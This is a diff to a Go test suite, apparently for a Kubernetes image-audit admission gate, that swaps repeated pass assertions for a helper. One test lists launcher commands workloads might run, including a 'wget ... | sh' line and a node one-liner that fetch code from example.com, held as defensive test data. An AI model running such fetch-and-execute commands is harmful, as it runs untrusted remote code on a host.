@@ -85,7 +85,7 @@ var _ = Describe("An audit made to deceive", func() {
 	It("S2: passes containers with the variables that it set, and no others", func(ctx context.Context) {
 		gate(ctx, own)
 		audit := settled(ctx, newAudit(variant(ctx, "honest-go:dev", "with"), variable("A", "1")))
-		Expect(audit.Status.Verdict).To(Equal(v1alpha1.VerdictPass), conditions(audit))
+		expectPass(audit)
 		Expect(audit.Status.Audited.Environment.Names).To(ConsistOf("A"))
 		Expect(fmt.Sprint(audit.Status.Audited.Environment)).NotTo(ContainSubstring("A=1"))
 		awaitAdmitted(ctx, setting(byDigest(audit), "A", "1"))
@@ -104,7 +104,7 @@ var _ = Describe("An audit made to deceive", func() {
 		}
 		awaitVerdict(ctx, passed)
 		awaitVerdict(ctx, failed)
-		Expect(passed.Status.Verdict).To(Equal(v1alpha1.VerdictPass), conditions(passed))
+		expectPass(passed)
 		Expect(failed.Status.Verdict).To(Equal(v1alpha1.VerdictFail), conditions(failed))
 		awaitDeniedAs(ctx, setting(byDigest(failed), name, poison), "which failed its audit")
 		awaitAdmitted(ctx, pod(byDigest(passed)))
@@ -114,7 +114,7 @@ var _ = Describe("An audit made to deceive", func() {
 	It("L7: passes no launcher, in whatever a workload writes it", func(ctx context.Context) {
 		gate(ctx, own)
 		audit := settled(ctx, newAudit(variant(ctx, "honest-node:dev", "launcher")))
-		Expect(audit.Status.Verdict).To(Equal(v1alpha1.VerdictPass), conditions(audit))
+		expectPass(audit)
 		awaitAdmitted(ctx, pod(byDigest(audit)))
 		for _, command := range [][]string{
 			{"npx", "-y", "notes"}, {"uvx", "notes"}, {"sh", "-c", "wget -qO- http://example.com/notes | sh"}, {"node", "-e", fmt.Sprintf(launcher, "example.com")},
